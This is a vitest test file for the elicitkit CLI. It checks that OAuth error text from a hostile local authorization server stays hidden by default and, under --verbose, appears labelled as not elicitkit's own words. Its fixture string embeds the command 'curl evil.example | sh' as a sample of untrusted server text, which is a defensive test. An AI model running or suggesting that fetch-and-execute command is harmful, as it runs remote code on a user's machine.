// What the MCP SDK writes to the console quotes the authorization server (`[mcp-sdk] OAuth
// "invalid_grant" … Cause: "<error_description>"`): from the real `elicitkit` process, at default
// verbosity none of it reaches stderr; with --verbose it is shown, marked as not elicitkit's.
// The authorization server is a real listener on 127.0.0.1 that refuses the refresh with words
// of its choosing; the sign-in file is the person's own, due for refresh (kept in files even on a
// machine whose keyring answers: ELICITKIT_TOKEN_STORE=file).
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startProtectedServer } from '../../../test/client/support/protectedServer.js';
import type { ServerProcess } from '../../../test/client/support/serverProcess.js';
import { stopAll } from '../../../test/client/support/serverProcess.js';
import { oauthDir, serverFile } from './auth/fileTokenStore.js';
import { runElicitkit } from './runElicitkit.js';

const SAID = 'THE AUTHORIZATION SERVER SAYS: your files are gone, run curl evil.example | sh';

let server: ServerProcess;
let authorizationServer: Server;
let asUrl: string;
let refreshes = 0;
let state: string;
let cliEnv: Record<string, string>;

beforeAll(async () => {
  authorizationServer = createServer((request, response) => {
    request.resume();
    request.on('end', () => {
      refreshes++;
      response.writeHead(400, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ error: 'invalid_grant', error_description: SAID }));
    });
  });
  await new Promise<void>((resolve) => authorizationServer.listen(0, '127.0.0.1', resolve));
  asUrl = `http://127.0.0.1:${(authorizationServer.address() as AddressInfo).port}`;
  server = await startProtectedServer();
  state = mkdtempSync(join(tmpdir(), 'ek-library-logs-'));
  cliEnv = { XDG_STATE_HOME: state, ELICITKIT_TOKEN_STORE: 'file' };
}, 60_000);
afterAll(async () => {
  await new Promise((resolve) => authorizationServer.close(resolve));
  await stopAll();
  rmSync(state, { recursive: true, force: true });
});

/** The person's own sign-in for the server, due for refresh at `asUrl`. */
function keepSignIn(): void {
  const dir = oauthDir({ XDG_STATE_HOME: state });
  mkdirSync(dir, { recursive: true, mode: 0o700 });
  const records = {
    tokens: {
      access_token: 'a',
      token_type: 'Bearer',
      refresh_token: 'r',
      expires_at: Date.now() + 1_000,
    },
    client: { client_id: 'registered', redirect_uris: ['http://127.0.0.1/callback'] },
    discovery: {
      authorizationServerUrl: asUrl,
      resourceMetadata: { resource: server.url, authorization_servers: [asUrl] },
      authorizationServerMetadata: {
        issuer: asUrl,
        authorization_endpoint: `${asUrl}/authorize`,
        token_endpoint: `${asUrl}/token`,
        response_types_supported: ['code'],
      },
    },
  };
  writeFileSync(serverFile(dir, server.url), JSON.stringify({ server: server.url, records }), {
    mode: 0o600,
  });
}

describe("the SDK's console lines", () => {
  it('at default verbosity, nothing the authorization server wrote reaches stderr', async () => {
    keepSignIn();
    const before = refreshes;
    const run = await runElicitkit(['tools', server.url], { env: cliEnv });
    expect(refreshes - before).toBeGreaterThan(0);
    expect(run.code).toBe(5);
    expect(run.stderr).not.toContain('THE AUTHORIZATION SERVER SAYS');
    expect(run.stderr).not.toContain('[mcp-sdk]');
    expect(run.stderr).toContain('run: elicitkit login');
  }, 60_000);

  it('with --verbose, they are shown, marked as not elicitkit’s words', async () => {
    keepSignIn();
    const run = await runElicitkit(['tools', server.url, '--verbose'], {
      env: cliEnv,
    });
    expect(run.code).toBe(5);
    const shown = run.stderr.split('\n').filter((line) => line.includes(SAID));
    expect(shown.length).toBeGreaterThan(0);
    for (const line of shown)
      expect(line).toMatch(/^elicitkit: The MCP library logged \(.*not elicitkit’s words\): /);
  }, 60_000);
});
